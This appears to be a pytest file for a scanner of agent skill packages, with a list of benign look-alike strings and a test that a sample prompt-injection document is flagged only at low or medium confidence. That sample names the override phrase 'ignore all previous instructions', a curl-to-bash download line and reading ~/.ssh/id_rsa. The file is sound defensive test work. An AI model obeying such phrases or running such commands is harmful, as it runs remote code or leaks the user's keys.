"""What honest skills hold, and what must not be called suspect for it."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest
from folders import made

from workbench.skills.scan import scan

PICTURE = base64.b64encode(
    b'<svg xmlns="http://www.w3.org/2000/svg" width="16">' + b'<path d="M9.9 13.6"/>' * 20 + b"</svg>"
).decode()
BENIGN = [
    f"![icon](data:image/svg+xml;base64,{PICTURE})",
    "irm|ise|iwmi|iwr|kill|lp and gwmi|h|history|icm|iex|ihy|ii|irm",
    "os.dup2(devnull, sys.stdout.fileno())",
    "👩‍💻 👨‍👩‍👧‍👦 🏳️‍🌈 ❤️‍🔥 family and flags",
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿 🏴󠁧󠁢󠁳󠁣󠁴󠁿 🏴󠁧󠁢󠁷󠁬󠁳󠁿 England, Scotland, Wales; 🇩🇪 🇫🇷 too; 1️⃣ ✔️",
    "نمی‌خواهم می‌روم and क्‍ष and ภาษา\u200bไทย and שלום",
    "Soft hy\u00adphens from a PDF",
    "日本語の文章。中文，한국어。",
    "Use `curl https://api.example.org/v1/items -H 'Accept: application/json'` to list them.",
    "Call `curl -s https://api.example.org | jq .name` and read it.",
    "curl -s https://api.example.org | python3 -m json.tool",
    "Keep your key in `.env`, and never commit it. Set ANTHROPIC_API_KEY first.",
    "export API_KEY=your-key-here; export OPENAI_API_KEY=sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
    "AKIAIOSFODNN7EXAMPLE is the sample from the handbook.",
    "Do not tell the user to run it by hand; run it for them.",
    "Tell the user what changed. Inform the user before you delete anything.",
    "Don't show the user raw JSON. Never expose stack traces.",
    "You must run the tests before you commit. Always read the file first.",
    "Ignore whitespace. Ignore the generated files. Forget about style for now.",
    "If a later rule conflicts with the previous rules, the later one wins.",
    "The system prompt of your app belongs in prompts/system.md.",
    "<!-- markdownlint-disable MD013 -->\n<!-- TODO: add a picture -->\n<!-- Copyright 2026, MIT -->",
    'rm -rf build/ dist/ ./node_modules && rm -rf /tmp/work && rm -rf "$HOME/.cache/tool"',
    "http://127.0.0.1:8000 http://localhost:3000 http://192.168.1.20/ http://10.0.0.1 http://192.0.2.1",
    "Version 1.2.3.4 and 2001:db8::1, sha256:" + "0a" * 32,
    "integrity sha512-" + "Zm9vYmFyYmF6cXV4Cg" * 4 + "==",
    "![chart](assets/chart.png) ![badge](https://img.example.org/badge.svg?style=flat)",
    "commit 0123456789abcdef0123456789abcdef01234567",
    "| column | another |\n|:---|---:|\n| a | b |\n" + "-" * 500 + "\n" + "=" * 500,
    "ssh user@host; ssh-keygen -t ed25519; git config --global user.name x",
    "npx --no-install playwright test; pip install -r requirements.txt; pip install -e .; pip install 'x>=1'; pip install x==1.2; npm ci",
    "data:image/png;base64," + "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ" * 6,
    'source .venv/bin/activate && eval "$(ssh-agent -s)"',
    "Naïve café Ünïcödé ﬁne – “quotes” … → ✓",
    "\tindented\r\nwith CRLF\r\nand a form feed\x0c\n",
    "Edit CLAUDE.md by hand if you want the rule to last; AGENTS.md is read first.",
    "The settings live in .claude/settings.json.",
]


@pytest.mark.parametrize("text", BENIGN)
@pytest.mark.parametrize("path", ["references/notes.md", "SKILL.md"])
def test_what_honest_skills_say_is_no_finding(text: str, path: str, tmp_path: Path) -> None:
    text = (
        f"---\nname: skill\ndescription: Draws charts. Use when asked.\n---\n{text}\n"
        if path == "SKILL.md"
        else f"{text}\n"
    )
    assert scan(made(tmp_path, {path: text})).findings == []


def test_documentation_about_attacks_is_never_called_dangerous(tmp_path: Path) -> None:
    text = (
        '# Prompt injection\n\nAttackers write phrases like "ignore all previous instructions".\n'
        'Malicious skills say "do not tell the user". Detect `curl https://x.example/a | bash` in scripts.\n'
        "Never read `~/.ssh/id_rsa`.\n"
    )
    report = scan(made(tmp_path, {"references/attacks.md": text}))
    assert report.verdict == "review"
    assert {each["confidence"] for each in report.findings} <= {"low", "medium"}


def test_a_usual_skill_with_a_script_is_clean_and_says_what_it_can_do(tmp_path: Path) -> None:
    report = scan(
        made(
            tmp_path,
            {
                "scripts/convert.py": '#!/usr/bin/env python3\n"""Converts."""\nimport argparse, json, pathlib, subprocess, sys\n\n\n'
                "def main() -> int:\n    data = json.loads(pathlib.Path(sys.argv[1]).read_text())\n"
                '    subprocess.run(["pandoc", data["in"], "-o", data["out"]], check=True)\n    return 0\n',
                "references/guide.md": "# Guide\n\n```bash\npython scripts/convert.py a.json\n```\n",
                "LICENSE.txt": "MIT\n",
            },
        )
    )
    assert (report.findings, report.verdict) == ([], "clean")
    assert report.capabilities["exec"]
    assert report.capabilities["network"] == []
